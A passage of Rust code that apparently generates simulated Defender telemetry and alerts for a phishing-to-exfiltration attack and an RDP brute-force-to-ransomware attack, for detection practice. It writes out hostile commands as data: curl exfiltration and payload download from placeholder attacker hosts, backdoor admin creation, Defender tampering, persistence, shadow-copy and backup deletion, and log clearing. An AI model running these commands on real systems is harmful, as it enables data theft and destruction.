                protocol: "Kerberos",
                failure: "",
                user: admin,
                device: Some(vd),
                ip: &vd.ip,
                dest: dc,
                dest_port: 88,
                target: Some(fs),
                location: "",
                isp: "",
                report_id: &id_rid,
                additional: "{\"Source account\":\"adm\",\"Spns\":\"TERMSRV/srv-file-01.contoso.com\"}",
            },
        );
    })?;

    // On the file server: archive the finance share and upload it.
    let fs_boot = fs_ctx
        .proc(P::Winlogon)
        .cloned()
        .unwrap_or_else(|| explorer.clone());
    let t_sess = t_rdp + 12 * SEC;
    let userinit = proc(
        &mut r,
        Img::Userinit,
        r"C:\Windows\system32\userinit.exe".into(),
        t_sess,
        admin_acct,
        true,
        rdp_logon,
        &fs_boot,
    );
    o.process(fs_i, t_sess, &fs_boot, &userinit)?;
    let fs_explorer = proc(
        &mut r,
        Img::Explorer,
        r"C:\Windows\Explorer.EXE".into(),
        t_sess + SEC,
        admin_acct,
        true,
        rdp_logon,
        &userinit,
    );
    o.process(fs_i, t_sess + SEC, &userinit, &fs_explorer)?;
    let t_zip = t_rdp + 25 * MIN;
    let zip_ps = proc(
        &mut r,
        Img::PowerShell,
        "powershell.exe -NoP -c \"Compress-Archive -Path 'D:\\Shares\\Finance\\*' -DestinationPath 'C:\\Users\\Public\\Documents\\fin_q3.zip' -CompressionLevel Fastest\"".into(),
        t_zip,
        admin_acct,
        true,
        rdp_logon,
        &fs_explorer,
    );
    o.process(fs_i, t_zip, &fs_explorer, &zip_ps)?;
    o.file(
        fs_i,
        t_zip + 6 * MIN,
        &zip_ps,
        "FileCreated",
        r"C:\Users\Public\Documents",
        "fin_q3.zip",
        1_873_412_096,
        |_| {},
    )?;
    let t_up = t_zip + 9 * MIN;
    let curl = proc(
        &mut r,
        Img::Curl,
        format!(
            "curl.exe -s -k -T C:\\Users\\Public\\Documents\\fin_q3.zip https://{EXFIL_IP}/upload/fin_q3.zip"
        ),
        t_up,
        admin_acct,
        true,
        rdp_logon,
        &zip_ps,
    );
    o.process(fs_i, t_up, &zip_ps, &curl)?;
    for k in 0..24 {
        // A parallel multi-part upload: many connections in a few minutes.
        o.connect(
            fs_i,
            t_up + SEC + k * 9 * SEC,
            &curl,
            "ConnectionSuccess",
            EXFIL_IP,
            443,
            "",
            true,
        )?;
    }
    o.file(
        fs_i,
        t_up + 8 * MIN,
        &zip_ps,
        "FileDeleted",
        r"C:\Users\Public\Documents",
        "fin_q3.zip",
        1_873_412_096,
        |_| {},
    )?;

    // The stolen session token: mass downloads from SharePoint from the C2 address.
    let t_cloud = t0 + 5 * HOUR;
    let crid = format!("{}-l", r.guid());
    o.row("IdentityLogonEvents", t_cloud - 2 * MIN, |s, _| {
        write_id_logon(
            s,
            &IdLogon {
                t: t_cloud - 2 * MIN,
                action: "LogonSuccess",
                application: "Office 365",
                logon_type: "Login:reprocess",
                protocol: "",
                failure: "",
                user: victim,
                device: None,
                ip: C2_IP,
                dest: None,
                dest_port: 0,
                target: None,
                location: "NL",
                isp: "Hosting Services B.V.",
                report_id: &crid,
                additional: "",
            },
        );
    })?;
    let site_docs = [
        "Payroll",
        "Bonus Plan",
        "Bank Details",
        "Vendor Payments",
        "Budget",
        "Forecast",
        "Board Deck",
        "Audit Findings",
        "Tax Filing",
        "Salary Bands",
    ];
    let mut url = String::new();
    for k in 0..80i64 {
        let t = t_cloud + k * 11 * SEC + r.range(0, 5 * SEC);
        let doc = format!(
            "{} {}.xlsx",
            site_docs
                .get((k % 10) as usize)
                .copied()
                .unwrap_or("Finance"),
            2020 + k / 10
        );
        url.clear();
        doc_url(&mut url, victim, &format!("Finance/{doc}"));
        let rid = r.guid();
        o.row("CloudAppEvents", t, |s, _| {
            write_cloud(
                s,
                &CloudEvent {
                    t,
                    action: "FileDownloaded",
                    app: &SHAREPOINT,
                    user: victim,
                    ip: C2_IP,
                    country: "NL",
                    city: "Amsterdam",
                    isp: "Hosting Services B.V.",
                    user_agent: "python-requests/2.31.0",
                    activity: "Download",
                    object_name: &doc,
                    object_id: &url,
                    object_type: "File",
                    report_id: &rid,
                    uncommon: true,
                },
            );
        })?;
    }

    // Alerts.
    let mail_ev = |s: &mut Sink, _: &World| {
        let c = s.c;
        s.s(c.EntityType, "MailMessage");
        s.s(c.EvidenceRole, "Impacted");
        s.s(c.NetworkMessageId, &nmid);
        s.s(c.EmailSubject, PHISH_SUBJECT);
        s.s(c.AccountUpn, &victim.upn);
    };
    let mailbox_ev = |s: &mut Sink, _: &World| {
        let c = s.c;
        s.s(c.EntityType, "Mailbox");
        s.s(c.EvidenceRole, "Impacted");
        s.s(c.AccountUpn, &victim.upn);
        s.s(c.AccountObjectId, &victim.object_id);
    };
    let url_ev = ev_ip(PHISH_IP, PHISH_URL);
    o.alert(
        t0 + 5 * HOUR + 31 * MIN,
        "Email messages containing malicious URL removed after delivery",
        "InitialAccess",
        "Informational",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Office 365",
        "[\"Phishing (T1566)\",\"Spearphishing Link (T1566.002)\"]",
        &[&mail_ev, &mailbox_ev, &url_ev],
    )?;
    let m = ev_machine(vd);
    let u = ev_user(plan.victim_user, "Impacted");
    o.alert(
        t_click + 40 * SEC,
        "A potentially malicious URL click was detected",
        "InitialAccess",
        "High",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Office 365",
        "[\"Spearphishing Link (T1566.002)\"]",
        &[&mail_ev, &u, &url_ev, &m],
    )?;
    let p_ps = ev_process(&ps, vd);
    let p_word = ev_process(&word, vd);
    let f_doc = ev_file(PHISH_DOC, &downloads, 48_640, Some(vd));
    o.alert(
        t_ps + 9 * SEC,
        "Suspicious PowerShell command line",
        "Execution",
        "Medium",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"PowerShell (T1059.001)\",\"Obfuscated Files or Information (T1027)\"]",
        &[&m, &u, &p_ps, &p_word, &f_doc],
    )?;
    let c2 = ev_ip(C2_IP, "");
    o.alert(
        t_c2 + 10 * MIN,
        "Suspicious connection to a rare external host",
        "CommandAndControl",
        "Medium",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"Application Layer Protocol (T1071)\"]",
        &[&m, &p_ps, &c2],
    )?;
    let p_dump = ev_process(&rundll, vd);
    let f_dump = ev_file("lsass.dmp", stage, 58_163_712, Some(vd));
    o.alert(
        t_dump + 4 * SEC,
        "Possible credential dumping from LSASS memory",
        "CredentialAccess",
        "High",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"OS Credential Dumping: LSASS Memory (T1003.001)\",\"Rundll32 (T1218.011)\"]",
        &[&m, &u, &p_dump, &f_dump],
    )?;
    let cu = ev_user(plan.victim_user, "Impacted");
    let cip = ev_ip(C2_IP, "");
    let capp = |s: &mut Sink, _: &World| {
        let c = s.c;
        s.s(c.EntityType, "CloudApplication");
        s.s(c.EvidenceRole, "Related");
        s.s(c.Application, SHAREPOINT.name);
        s.i(c.ApplicationId, SHAREPOINT.id);
    };
    o.alert(
        t_cloud + 16 * MIN,
        "Mass download by a single user",
        "Exfiltration",
        "Medium",
        "Microsoft Defender for Cloud Apps",
        "Microsoft Defender for Cloud Apps",
        "[\"Data from Cloud Storage (T1530)\"]",
        &[&cu, &cip, &capp],
    )?;

    Ok(format!(
        "Phishing to exfiltration (starts {start}): mail \"{PHISH_SUBJECT}\" from {PHISH_SENDER} ({PHISH_IP}) to {n} people incl. {victim_upn}; click on {PHISH_URL}; on {vd_name} WINWORD.EXE opens {PHISH_DOC} and spawns powershell.exe -EncodedCommand (download cradle from {C2_HOST}); beacons to {C2_IP}:443; fodhelper UAC bypass; rundll32 comsvcs.dll MiniDump of lsass (pid {lsass_pid}); RDP as {NETBIOS}\\{admin_sam} to {fs_name}; fin_q3.zip uploaded with curl to {EXFIL_IP}; 80 SharePoint FileDownloaded by {victim_upn} from {C2_IP}",
        start = iso(t0 - 32 * MIN),
        n = plan.phish_recipients.len(),
        victim_upn = victim.upn,
        vd_name = vd.name,
        admin_sam = admin.sam,
        fs_name = fs.name,
    ))
}

#[allow(clippy::too_many_lines)]
fn brute_force(o: &mut StoryOut) -> Result<String, IngestError> {
    let w = o.w;
    let plan = &w.plan;
    let mut r = Rng::derive(&[w.seed, fnv("story-2")]);
    let t0 = plan.s2_start;
    let wd_i = plan.target_dev;
    let (Some(wd), Some(svc)) = (w.device(wd_i), w.user(plan.svc_user)) else {
        return Ok("brute-force story skipped: too few entities".into());
    };
    let dc = w.device(wd.dc);
    let ctx = Ctx::new(w, wd_i, utc_day(t0), w.start, w.now);
    let lsass = ctx.proc(P::Lsass).cloned();
    let winlogon = ctx.proc(P::Winlogon).cloned();
    let svc_acct = Acct::User(plan.svc_user);

    // 38 minutes of guessing, ~10 attempts a minute.
    let names = [
        "administrator",
        "admin",
        "svc-backup",
        "backup",
        "sqladmin",
        "test",
        "user1",
        "scanner",
        "support",
        "svc-backup",
    ];
    let mut t = t0;
    let mut n_fail = 0;
    let mut k = 0usize;
    while t < t0 + 38 * MIN {
        let name = names.get(k % names.len()).copied().unwrap_or("admin");
        k += 1;
        let known = name == svc.sam;
        o.logon(
            wd_i,
            &Logon {
                t,
                action: "LogonFailed",
                logon_type: "Network",
                protocol: "NTLM",
                acct: if known { svc_acct } else { Acct::System },
                raw_name: if known { None } else { Some(name) },
                failure: if known || name == "administrator" {
                    "InvalidUserNameOrPassword"
                } else {
                    "UnknownUser"
                },
                logon_id: 0,
                remote: Some((BRUTE_IP, "kali", true)),
                by: lsass.as_ref(),
            },
        )?;
        n_fail += 1;
        if known {
            let rid = format!("{}-l", r.guid());
            o.row("IdentityLogonEvents", t + 30_000_000, |s, _| {
                write_id_logon(
                    s,
                    &IdLogon {
                        t: t + 30_000_000,
                        action: "LogonFailed",
                        application: "Active Directory",
                        logon_type: "Credentials validation",
                        protocol: "Ntlm",
                        failure: "WrongPassword",
                        user: svc,
                        device: Some(wd),
                        ip: &wd.ip,
                        dest: dc,
                        dest_port: 445,
                        target: None,
                        location: "",
                        isp: "",
                        report_id: &rid,
                        additional: "",
                    },
                );
            })?;
        }
        t += r.range(3 * SEC, 9 * SEC);
    }
    // The password falls.
    let t_ok = t0 + 39 * MIN;
    let session_logon = 0x7b_10c5;
    for (dt, logon_type, protocol, lid) in [
        (0, "Network", "NTLM", session_logon - 3),
        (6 * SEC, "RemoteInteractive", "Negotiate", session_logon),
    ] {
        o.logon(
            wd_i,
            &Logon {
                t: t_ok + dt,
                action: "LogonSuccess",
                logon_type,
                protocol,
                acct: svc_acct,
                raw_name: None,
                failure: "",
                logon_id: lid,
                remote: Some((BRUTE_IP, "kali", true)),
                by: if logon_type == "Network" {
                    lsass.as_ref()
                } else {
                    winlogon.as_ref()
                },
            },
        )?;
    }
    let rid = format!("{}-l", r.guid());
    o.row("IdentityLogonEvents", t_ok + SEC, |s, _| {
        write_id_logon(
            s,
            &IdLogon {
                t: t_ok + SEC,
                action: "LogonSuccess",
                application: "Active Directory",
                logon_type: "Credentials validation",
                protocol: "Ntlm",
                failure: "",
                user: svc,
                device: Some(wd),
                ip: &wd.ip,
                dest: dc,
                dest_port: 445,
                target: None,
                location: "",
                isp: "",
                report_id: &rid,
                additional: "",
            },
        );
    })?;
    let m = ev_machine(wd);
    let attacker = ev_ip(BRUTE_IP, "");
    let u = ev_user(plan.svc_user, "Impacted");
    o.alert(
        t_ok + 2 * MIN,
        "Successful RDP logon after multiple failed attempts",
        "CredentialAccess",
        "Medium",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"Brute Force (T1110)\",\"Remote Desktop Protocol (T1021.001)\"]",
        &[&m, &attacker, &u],
    )?;

    // Hands on keyboard.
    let boot = winlogon.clone().unwrap_or_else(|| {
        proc(
            &mut r,
            Img::Winlogon,
            "winlogon.exe".into(),
            w.start,
            Acct::System,
            true,
            999,
            &Proc {
                img: Img::Smss,
                pid: 400,
                cmd: String::new(),
                created: w.start,
                acct: Acct::System,
                integrity: "System",
                elevation: "TokenElevationTypeDefault",
                logon_id: 999,
                session: 0,
                parent_img: Img::System,
                parent_pid: 4,
                parent_created: w.start,
            },
        )
    });
    let t_s = t_ok + 10 * SEC;
    let userinit = proc(
        &mut r,
        Img::Userinit,
        r"C:\Windows\system32\userinit.exe".into(),
        t_s,
        svc_acct,
        true,
        session_logon,
        &boot,
    );
    o.process(wd_i, t_s, &boot, &userinit)?;
    let explorer = proc(
        &mut r,
        Img::Explorer,
        r"C:\Windows\Explorer.EXE".into(),
        t_s + SEC,
        svc_acct,
        true,
        session_logon,
        &userinit,
    );
    o.process(wd_i, t_s + SEC, &userinit, &explorer)?;
    let t_cmd = t_ok + 4 * MIN;
    let cmd = proc(
        &mut r,
        Img::Cmd,
        "\"C:\\Windows\\system32\\cmd.exe\" ".into(),
        t_cmd,
        svc_acct,
        true,
        session_logon,
        &explorer,
    );
    o.process(wd_i, t_cmd, &explorer, &cmd)?;
    let steps: [(i64, Img, String); 5] = [
        (40, Img::Whoami, "whoami  /priv".into()),
        (
            75,
            Img::Net,
            format!("net  user {BACKDOOR_USER} P@ssw0rd!2024 /add"),
        ),
        (
            95,
            Img::Net,
            format!("net  localgroup administrators {BACKDOOR_USER} /add"),
        ),
        (
            130,
            Img::Net,
            "net  localgroup \"Remote Desktop Users\" support_tmp /add".into(),
        ),
        (160, Img::Tasklist, "tasklist  /v".into()),
    ];
    for (dt, img, c) in steps {
        let t = t_cmd + dt * SEC;
        let p = proc(
            &mut r,
            img,
            c.clone(),
            t,
            svc_acct,
            true,
            session_logon,
            &cmd,
        );
        o.process(wd_i, t, &cmd, &p)?;
        if img == Img::Net {
            let p1 = proc(
                &mut r,
                Img::Net1,
                c.replacen("net ", "C:\\Windows\\system32\\net1 ", 1),
                t + 10_000_000,
                svc_acct,
                true,
                session_logon,
                &p,
            );
            o.process(wd_i, t + 10_000_000, &p, &p1)?;
        }
    }
    o.device_event(
        wd_i,
        t_cmd + 76 * SEC,
        &explorer,
        "UserAccountCreated",
        |s, _| {
            let c = s.c;
            s.s(c.AdditionalFields, "{\"TargetUserName\":\"support_tmp\"}");
        },
    )?;
    o.device_event(wd_i, t_cmd + 96 * SEC, &explorer, "UserAccountAddedToLocalGroup", |s, _| {
        let c = s.c;
        s.s(
            c.AdditionalFields,
            "{\"GroupName\":\"Administrators\",\"GroupDomainName\":\"Builtin\",\"GroupSid\":\"S-1-5-32-544\",\"TargetUserName\":\"support_tmp\"}",
        );
    })?;
    // Defender tampering (blocked by tamper protection).
    let t_tamper = t_cmd + 5 * MIN;
    let ps = proc(
        &mut r,
        Img::PowerShell,
        "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\"".into(),
        t_tamper,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, t_tamper, &cmd, &ps)?;
    o.device_event(wd_i, t_tamper + 2 * SEC, &ps, "TamperingAttempt", |s, _| {
        let c = s.c;
        s.s(c.RegistryKey, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection");
        s.s(c.RegistryValueName, "DisableRealtimeMonitoring");
        s.s(c.RegistryValueData, "1");
        s.s(c.AdditionalFields, "{\"TamperingAction\":\"RegistryModification\",\"Status\":\"Blocked\",\"Target\":\"DisableRealtimeMonitoring\"}");
    })?;
    o.registry(
        wd_i,
        t_tamper + 3 * SEC,
        &ps,
        "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
        "C:\\ProgramData",
        "Dword",
        "0",
    )?;
    // Payload, persistence.
    let t_dl = t_cmd + 9 * MIN;
    let curl = proc(
        &mut r,
        Img::Curl,
        format!("curl.exe -s -o C:\\ProgramData\\winupd.exe http://{BRUTE_IP}:8080/winupd.exe"),
        t_dl,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, t_dl, &cmd, &curl)?;
    o.connect(
        wd_i,
        t_dl + SEC,
        &curl,
        "ConnectionSuccess",
        BRUTE_IP,
        8080,
        "",
        true,
    )?;
    o.file(
        wd_i,
        t_dl + 3 * SEC,
        &curl,
        "FileCreated",
        "C:\\ProgramData",
        "winupd.exe",
        241_152,
        |s| {
            let c = s.c;
            s.f(
                c.FileOriginUrl,
                format_args!("http://{BRUTE_IP}:8080/winupd.exe"),
            );
            s.s(c.FileOriginIP, BRUTE_IP);
        },
    )?;
    let t_task = t_dl + 70 * SEC;
    let schtasks = proc(
        &mut r,
        Img::Schtasks,
        "schtasks  /create /tn \"\\Microsoft\\Windows\\WindowsUpdate\\Windows Update Check\" /tr C:\\ProgramData\\winupd.exe /sc onstart /ru SYSTEM /f".into(),
        t_task,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, t_task, &cmd, &schtasks)?;
    o.device_event(wd_i, t_task + SEC, &schtasks, "ScheduledTaskCreated", |s, _| {
        let c = s.c;
        s.s(
            c.AdditionalFields,
            "{\"TaskName\":\"\\\\Microsoft\\\\Windows\\\\WindowsUpdate\\\\Windows Update Check\",\"TaskContent\":\"<Exec><Command>C:\\\\ProgramData\\\\winupd.exe</Command></Exec>\",\"SubjectUserName\":\"svc-backup\",\"SubjectDomainName\":\"CONTOSO\"}",
        );
    })?;
    o.registry(
        wd_i,
        t_task + 20 * SEC,
        &ps,
        "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "WinUpd",
        "String",
        "C:\\ProgramData\\winupd.exe",
    )?;

    // Impact: shadow copies, then encryption.
    let t_vss = t0 + 2 * HOUR + 5 * MIN;
    let vss = proc(
        &mut r,
        Img::Vssadmin,
        "vssadmin.exe  delete shadows /all /quiet".into(),
        t_vss,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, t_vss, &cmd, &vss)?;
    let bcd = proc(
        &mut r,
        Img::Bcdedit,
        "bcdedit.exe  /set {default} recoveryenabled No".into(),
        t_vss + 20 * SEC,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, t_vss + 20 * SEC, &cmd, &bcd)?;
    // The payload prepares the host: it stops databases and backup services, kills their
    // processes, deletes the backup catalog, turns off the firewall and Defender's
    // ransomware protection, clears the security log and wipes free space, each through
    // `cmd.exe /c`.
    let payload = proc(
        &mut r,
        Img::WinUpd,
        "C:\\ProgramData\\winupd.exe -path D:\\ -path C:\\inetpub".into(),
        t_vss + 2 * MIN,
        svc_acct,
        true,
        session_logon,
        &cmd,
    );
    o.process(wd_i, payload.created, &cmd, &payload)?;
    let t_enc = prepare_encryption(o, &mut r, wd_i, &payload)?;
    let folders = [
        "C:\\inetpub\\wwwroot\\assets",
        "C:\\inetpub\\wwwroot\\uploads",
        "D:\\Data\\Orders",
        "D:\\Data\\Invoices",
        "D:\\Data\\Exports",
    ];
    let exts = ["pdf", "xlsx", "docx", "csv", "jpg", "config"];
    let mut tf = t_enc + 5 * SEC;
    for (fi, folder) in folders.iter().enumerate() {
        o.file(
            wd_i,
            tf,
            &payload,
            "FileCreated",
            folder,
            "README_RESTORE_FILES.txt",
            1_822,
            |_| {},
        )?;
        for j in 0..50 {
            let ext = exts.get(j % exts.len()).copied().unwrap_or("dat");
            let original = format!("file_{fi}{j:03}.{ext}");
            let renamed = format!("{original}.locked");
            tf += r.range(100_000_000, 900_000_000);
            o.file(
                wd_i,
                tf,
                &payload,
                "FileRenamed",
                folder,
                &renamed,
                r.range(10_000, 5_000_000),
                |s| {
                    let c = s.c;
                    s.s(c.PreviousFileName, &original);
                    s.f(c.PreviousFolderPath, format_args!("{folder}\\{original}"));
                },
            )?;
        }
    }
    let p_vss = ev_process(&vss, wd);
    o.alert(
        t_vss + 30 * SEC,
        "File backups were deleted",
        "Impact",
        "High",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"Inhibit System Recovery (T1490)\"]",
        &[&m, &u, &p_vss],
    )?;
    let p_pay = ev_process(&payload, wd);
    let f_pay = ev_file("winupd.exe", "C:\\ProgramData", 241_152, Some(wd));
    o.alert(
        t_enc + 40 * SEC,
        "Ransomware behavior detected in the file system",
        "Ransomware",
        "High",
        "Microsoft Defender for Endpoint",
        "EDR",
        "[\"Data Encrypted for Impact (T1486)\"]",
        &[&m, &u, &p_pay, &f_pay],
    )?;

    Ok(format!(
        "RDP brute force to ransomware (starts {start}): {n_fail} failed logons from {BRUTE_IP} to internet-facing {wd_name}, success as {NETBIOS}\\{svc_sam} (LogonType RemoteInteractive); backdoor local admin {BACKDOOR_USER}; Set-MpPreference tampering; curl downloads C:\\ProgramData\\winupd.exe with scheduled-task and Run-key persistence; vssadmin delete shadows; 250 files renamed to *.locked with README_RESTORE_FILES.txt",
        start = iso(t0),
        wd_name = wd.name,
        svc_sam = svc.sam,
    ))
}

/// The ransomware's preparation of the host before it encrypts (the usual playbook):
/// every command through `cmd.exe /c`, the service stops and process kills within one
/// two-minute bin. Returns when encryption starts.
fn prepare_encryption(
    o: &mut StoryOut,
    r: &mut Rng,
    dev: usize,
    payload: &Proc,
) -> Result<i64, IngestError> {
    let (acct, logon_id) = (payload.acct, payload.logon_id);
    const SERVICES: [&str; 12] = [
        "MSSQLSERVER",
        "SQLSERVERAGENT",
        "SQLWriter",
        "SQLBrowser",
        "MSSQLFDLauncher",
        "VSS",
        "wbengine",
        "W3SVC",
        "WAS",
        "MSExchangeIS",
        "VeeamBackupSvc",
        "BackupExecAgentAccelerator",
    ];
    const KILL: [&str; 11] = [
        "sqlservr.exe",
        "sqlwriter.exe",
        "sqlagent.exe",
        "sqlbrowser.exe",
        "sqlceip.exe",
        "msmdsrv.exe",
        "w3wp.exe",
        "mysqld.exe",
        "oracle.exe",
        "ocssd.exe",
        "veeam.backup.service.exe",
    ];
    const SQL_PROCS: [&str; 11] = [
        "sqlservr.exe",
        "sqlwriter.exe",
        "sqlagent.exe",
        "sqlbrowser.exe",
        "sqlceip.exe",
        "sqltelemetry.exe",
        "sqlmangr.exe",
        "sqlservr64.exe",
        "mysqld.exe",
        "mysqld-nt.exe",
        "mysqld-opt.exe",
    ];
    let mut steps: Vec<(Img, String)> = Vec::new();
    for svc in SERVICES {
        steps.push((Img::Net, format!("net stop \"{svc}\" /y")));
    }
    for p in KILL {
        steps.push((Img::Taskkill, format!("taskkill /F /IM {p}")));
    }
    let mut all = String::from("taskkill /F");
    for p in SQL_PROCS {
        let _ = write!(all, " /IM {p}");
    }
    steps.push((Img::Taskkill, all));
    steps.push((Img::Cipher, "cipher /w:C:\\".into()));
    steps.push((Img::Cipher, "cipher /w:D:\\".into()));
    for step in [
        "wbadmin delete catalog -quiet",
        "wbadmin delete systemstatebackup -keepVersions:0",
        "netsh advfirewall set allprofiles state off",
    ] {
        let img = if step.starts_with("netsh") {
            Img::Netsh
        } else {
            Img::Wbadmin
        };
        steps.push((img, step.to_string()));
    }
    for name in ["DisableTaskMgr", "DisableRegistryTools", "DisableCMD"] {
        let key = if name == "DisableCMD" {
            "HKCU\\Software\\Policies\\Microsoft\\Windows\\System"
        } else {
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System"
        };
        steps.push((
            Img::Reg,
            format!("reg add \"{key}\" /v {name} /t REG_DWORD /d \"1\" /f"),
        ));
    }
    for arg in [
        "Add-MpPreference -ExclusionExtension .exe",
        "Add-MpPreference -ExclusionExtension .bat",
        "Set-MpPreference -EnableControlledFolderAccess Disabled",
    ] {
        steps.push((
            Img::PowerShell,
            format!("powershell -ep bypass -c \"{arg}\""),
        ));
    }
    steps.push((Img::Wevtutil, "wevtutil cl Security".into()));
    // Start just after a two-minute boundary.
    let mut t = (payload.created + 20 * SEC) / (2 * MIN) * (2 * MIN) + 2 * MIN + 3 * SEC;
    for (img, line) in steps {
        t += r.range(2 * SEC, 4 * SEC);
        let shell = proc(
            r,
            Img::Cmd,
            format!("C:\\Windows\\system32\\cmd.exe /c {line}"),
            t,
            acct,
            true,
            logon_id,
            payload,
        );
        o.process(dev, t, payload, &shell)?;
        // The tool sees its arguments after two spaces, as `cmd.exe` passes them.
        let (exe, args) = line.split_once(' ').unwrap_or((line.as_str(), ""));
        let tool_cmd = if img == Img::PowerShell {
            format!("powershell.exe  {args}")
        } else {
            format!("{exe}  {args}")
        };
        let tt = t + 30_000_000;
        let tool = proc(r, img, tool_cmd, tt, acct, true, logon_id, &shell);
        o.process(dev, tt, &shell, &tool)?;
        if img == Img::Wevtutil {
            o.device_event(dev, tt + SEC, &tool, "SecurityLogCleared", |_, _| {})?;
        }
    }
    Ok(t + 20 * SEC)
}

/// Background antivirus detections of potentially unwanted software: `DeviceEvents`
/// `AntivirusDetection` rows with their `AlertInfo`/`AlertEvidence`, a few per day.
pub(crate) fn background_alerts(
    o: &mut StoryOut,
    day: i64,
    lo: i64,
    hi: i64,
) -> Result<(), IngestError> {
    let w = o.w;
    let mut r = Rng::derive(&[w.seed, fnv("pua"), day as u64]);
    let n = r.count(w.workstations.len() as f64 / 30.0);
    let threats = [
        ("PUA:Win32/Presenoker", "PDFConverterSetup.exe"),
        ("PUA:Win32/InstallCore", "FreeVideoDownloader.exe"),
        ("PUADlManager:Win32/OfferCore", "WinZipperSetup.exe"),
        ("PUA:Win32/Softcnapp", "DriverBoosterSetup.exe"),
    ];
    for _ in 0..n {
        let Some(&dev) = w.workstations.get(r.index(w.workstations.len())) else {
            continue;
        };
        let Some(d) = w.device(dev) else { continue };
        let Some((s0, s1)) = w.session(dev, day) else {
            continue;
        };
        let t = (s0 + r.range(0, s1 - s0)) / 100 * 100;
        if t < lo || t >= hi {
            continue;
        }
        let (threat, file) = *r.pick(&threats).unwrap_or(&threats[0]);
        let ctx = Ctx::new(w, dev, day, lo, hi);
        let Some(by) = ctx.first(&[P::Chrome, P::Edge, P::Explorer]).cloned() else {
            continue;
        };
        let sam = d
            .user
            .and_then(|u| w.user(u))
            .map_or("user", |u| u.sam.as_str());
        let folder = format!("C:\\Users\\{sam}\\Downloads");
        let msmpeng = ctx.proc(P::MsMpEng).cloned().unwrap_or_else(|| by.clone());
        o.device_event(dev, t, &msmpeng, "AntivirusDetection", |s, _| {
            let c = s.c;
            let (sha1, sha256, md5) = file_hashes(file);
            s.s(c.FileName, file);
            s.f(c.FolderPath, format_args!("{folder}\\{file}"));
            s.s(c.SHA1, &sha1);
            s.s(c.SHA256, &sha256);
            s.s(c.MD5, &md5);
            s.f(
                c.AdditionalFields,
                format_args!("{{\"ThreatName\":\"{threat}\",\"WasRemediated\":true,\"WasExecutingWhileDetected\":false,\"ReportSource\":\"Antivirus\",\"Action\":\"quarantine\"}}"),
            );
        })?;
        let m = ev_machine(d);
        let f = ev_file(file, &folder, 2_304_512, Some(d));
        let u = ev_user(d.user.unwrap_or(0), "Related");
        let mut title = String::new();
        let _ = write!(
            title,
            "'{}' unwanted software was detected",
            threat.split('/').nth(1).unwrap_or(threat)
        );
        o.alert(
            t + 3 * SEC,
            &title,
            "UnwantedSoftware",
            "Low",
            "Microsoft Defender for Endpoint",
            "Antivirus",
            "[]",
            &[&m, &f, &u],
        )?;
    }
    Ok(())
}
